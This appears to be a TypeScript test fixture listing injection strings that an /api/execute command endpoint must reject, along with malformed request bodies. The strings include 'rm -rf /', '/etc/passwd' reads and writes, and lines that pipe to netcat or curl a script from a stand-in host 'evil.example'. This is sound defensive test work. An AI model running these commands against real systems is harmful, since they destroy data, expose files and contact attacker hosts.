/**
 * Commands /api/execute must refuse whole: shell metacharacters, chaining, substitution,
 * control characters, unknown verbs, extra words, path-like targets and Unicode look-alikes.
 * `JOB` is replaced by a real target so that only the attack makes the command invalid.
 */
const TEMPLATES = [
  'hold JOB; rm -rf /',
  'hold JOB;id',
  'hold JOB | nc evil.example 80',
  'hold JOB || reboot',
  'hold JOB && curl http://evil.example/x.sh',
  'hold JOB &',
  'hold `id`',
  'hold JOB`id`',
  'hold $(id)',
  'hold JOB$(reboot)',
  'hold ${IFS}JOB',
  'hold JOB > /etc/passwd',
  'hold JOB < /dev/zero',
  'hold JOB\nrm -rf /',
  'hold JOB\r\nkill JOB',
  'hold JOB\trm',
  'hold JOB\u0000',
  'hold JOB %0a id',
  'hold ../../etc/passwd',
  'log /etc/passwd',
  'log ..%2f..%2fetc%2fpasswd',
  'log C:\\Windows\\system.ini',
  "hold JOB' OR '1'='1",
  'hold "JOB"',
  'hold JOB extra',
  'hold JOB JOB',
  'hold  JOB',
  'hold',
  '',
  '   ',
  'submit JOB',
  'conman "sj @#@.@"',
  'rm -rf /',
  'sh -c id',
  'exec JOB',
  'kill stream JOB',
  'hold stream JOB',
  'hold -rf',
  'hold --all',
  'hold *',
  'hold @#@.@',
  'hold <script>alert(1)</script>',
  'hold ＪＯＢ',
  'hold JOB\u200b',
  'hold JOB\u00a0extra',
  'hold \u202eJOB',
  'hold J\u0301OB',
  'hоld JOB', // Cyrillic о
  'ｈｏｌｄ JOB',
  'hold ' + 'A'.repeat(65),
  'hold ' + 'A'.repeat(300),
];

export function injectionCommands(target: string): string[] {
  return TEMPLATES.map((t) => t.replaceAll('JOB', target));
}

/** Bodies that are not `{"command": "<string>"}`. */
export const MALFORMED_BODIES: unknown[] = [
  {},
  { command: 42 },
  { command: ['hold', 'X'] },
  { command: { verb: 'hold' } },
  { command: null },
  { command: 'status X', shell: true },
];
